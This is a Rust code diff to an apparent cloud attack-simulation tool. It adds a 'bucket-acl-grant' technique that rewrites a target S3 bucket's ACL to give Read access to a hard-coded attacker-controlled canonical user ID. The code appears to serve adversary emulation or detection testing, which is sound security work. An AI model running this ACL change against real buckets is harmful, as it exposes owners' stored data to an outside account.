@@ -42,6 +42,9 @@ pub fn technique(id: &str) -> Option<&'static Technique> {
 }
 
 const TRAIL: &str = "management-events";
+/// The canonical user id of an account the attacker controls (any 64 hex digits to S3).
+const ATTACKER_CANONICAL_ID: &str =
+    "4f1c2b3a5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7081";
 
 /// Performs `id` against `target` with the attacker's clients; returns what was done.
 pub async fn perform(
@@ -400,6 +403,48 @@ pub async fn perform(
                 s3c.put_bucket_encryption()
                     .bucket(&bucket)
                     .server_side_encryption_configuration(configuration)
+                    .send()
+            );
+        }
+        "bucket-acl-grant" => {
+            let current = call!(
+                a,
+                "GetBucketAcl",
+                s3c.get_bucket_acl().bucket(&bucket).send()
+            );
+            let owner = current
+                .owner()
+                .and_then(|o| o.id())
+                .unwrap_or_default()
+                .to_owned();
+            let grant = |grantee: s3::types::Grantee, permission| {
+                s3::types::Grant::builder()
+                    .grantee(grantee)
+                    .permission(permission)
+                    .build()
+            };
+            let user = |id: &str| {
+                s3::types::Grantee::builder()
+                    .r#type(s3::types::Type::CanonicalUser)
+                    .id(id)
+                    .build()
+                    .map_err(|e| crate::step_failed(a, "PutBucketAcl", e))
+            };
+            call!(
+                a,
+                "PutBucketAcl",
+                s3c.put_bucket_acl()
+                    .bucket(&bucket)
+                    .access_control_policy(
+                        s3::types::AccessControlPolicy::builder()
+                            .owner(s3::types::Owner::builder().id(&owner).build())
+                            .grants(grant(user(&owner)?, s3::types::Permission::FullControl))
+                            .grants(grant(
+                                user(ATTACKER_CANONICAL_ID)?,
+                                s3::types::Permission::Read
+                            ))
+                            .build()
+                    )
                     .send()
             );
         }
